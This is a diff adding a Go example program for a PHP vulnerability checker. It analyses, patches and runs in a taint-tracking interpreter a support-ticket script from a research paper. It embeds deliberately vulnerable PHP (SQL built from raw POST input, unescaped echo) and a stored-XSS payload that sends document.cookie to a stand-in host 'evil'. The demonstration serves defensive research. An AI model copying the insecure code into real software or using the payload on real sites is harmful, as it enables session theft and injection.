@@ -1,0 +1,82 @@
+// PHP Support Tickets (the paper's Figures 1–2): a stored cross-site
+// scripting vulnerability. User-supplied ticket text is inserted into the
+// database unsanitized (Figure 1) and later echoed to other users
+// (Figure 2). This example verifies both scripts, patches them, and then
+// *executes* original and patched display scripts in the taint-tracking
+// PHP interpreter to show the attack blocked at runtime.
+//
+//	go run ./examples/supporttickets
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"webssari"
+	"webssari/internal/runtime"
+)
+
+// Figure 1: ticket submission.
+const submitPHP = `<?php
+$query = "INSERT INTO tickets_tickets (tickets_id, tickets_username, tickets_subject, tickets_question) VALUES ('" . $_SESSION['username'] . "', '" . $_POST['ticketsubject'] . "', '" . $_POST['message'] . "')";
+$result = @mysql_query($query);
+?>`
+
+// Figure 2: displaying the tickets.
+const displayPHP = `<?php
+$query = "SELECT tickets_id, tickets_username, tickets_subject FROM tickets_tickets";
+$result = @mysql_query($query);
+while ($row = @mysql_fetch_array($result)) {
+    extract($row);
+    echo "$tickets_username<BR>$tickets_subject<BR><BR>";
+}
+?>`
+
+func main() {
+	// --- static verification -------------------------------------------
+	for _, f := range []struct{ name, src string }{
+		{"submit.php", submitPHP},
+		{"display.php", displayPHP},
+	} {
+		rep, err := webssari.Verify([]byte(f.src), f.name)
+		if err != nil {
+			log.Fatalf("verify %s: %v", f.name, err)
+		}
+		fmt.Printf("=== %s: safe=%v, %d symptom(s), %d group(s)\n", f.name, rep.Safe, rep.Symptoms, rep.Groups)
+		for _, finding := range rep.Findings {
+			fmt.Printf("    %s via %s at %s\n", finding.Class, finding.Sink, finding.Location)
+		}
+	}
+
+	// --- dynamic demonstration -----------------------------------------
+	attack := "<script>document.location='http://evil/?c='+document.cookie</script>"
+	seed := func(in *runtime.Interp) {
+		// The stored ticket row contains an earlier attacker submission.
+		in.SeedRow(map[string]*runtime.Value{
+			"tickets_username": runtime.Clean("mallory"),
+			"tickets_subject":  runtime.Tainted(attack),
+		})
+	}
+
+	orig := runtime.New()
+	seed(orig)
+	if err := orig.RunSource("display.php", []byte(displayPHP)); err != nil {
+		log.Fatalf("run original: %v", err)
+	}
+	fmt.Printf("\noriginal display.php: %d tainted sink event(s)\n", len(orig.TaintedEvents()))
+	fmt.Printf("  page output: %s\n", orig.Output())
+
+	patched, rep, err := webssari.Patch([]byte(displayPHP), "display.php")
+	if err != nil {
+		log.Fatalf("patch: %v", err)
+	}
+	fmt.Printf("\npatched with %d runtime guard(s):\n%s\n", rep.Groups, patched)
+
+	fixed := runtime.New()
+	seed(fixed)
+	if err := fixed.RunSource("display.php", patched); err != nil {
+		log.Fatalf("run patched: %v", err)
+	}
+	fmt.Printf("patched display.php: %d tainted sink event(s)\n", len(fixed.TaintedEvents()))
+	fmt.Printf("  page output: %s\n", fixed.Output())
+}
